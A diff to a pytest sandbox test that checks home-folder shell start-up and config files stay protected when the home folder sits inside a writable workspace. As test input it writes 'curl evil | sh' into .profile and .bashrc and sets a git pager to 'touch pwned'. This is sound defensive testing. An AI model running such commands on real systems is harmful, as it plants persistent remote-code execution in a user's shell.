@@ -139,12 +139,18 @@ class TestWorkspaceWrite:
     def test_shell_start_up_files_are_protected_when_the_workspace_is_home(
         self, sbx: ToolContext, workspace: Path, monkeypatch: pytest.MonkeyPatch
     ):
-        monkeypatch.setenv("HOME", str(workspace))
-        (workspace / ".profile").write_text("# mine\n")
+        home = workspace / "home"
+        (home / ".config").mkdir(parents=True)
+        monkeypatch.setenv("HOME", str(home))  # the workspace lies above the home folder (asked for with -C)
+        (home / ".profile").write_text("# mine\n")
         sbx.policy = Policy.for_workspace(workspace, Mode.WORKSPACE_WRITE, deny_read=())
-        out = sh(sbx, "echo 'curl evil | sh' >> .profile; echo 'curl evil | sh' > .bashrc; echo done")
-        assert "done" in out and (workspace / ".profile").read_text() == "# mine\n"
-        assert not os.path.lexists(workspace / ".bashrc")
+        out = sh(sbx, "cd home; echo 'curl evil | sh' >> .profile; echo 'curl evil | sh' > .bashrc; "
+                      "git config --global core.pager 'touch pwned'; mkdir -p .local/bin; echo evil > .config/x; "
+                      "echo done")
+        assert "done" in out and (home / ".profile").read_text() == "# mine\n"
+        for name in (".bashrc", ".gitconfig", ".local", ".config/x"):
+            assert not os.path.lexists(home / name), f"{name}: {out}"
+        (workspace / "ok.txt").write_text("")  # the rest of the workspace is as writable as ever
 
     def test_placeholders_hold_while_another_command_runs(self, sbx: ToolContext, workspace: Path):
         """Two commands at once (two sessions): the first to end must not uncover the other's .coder."""
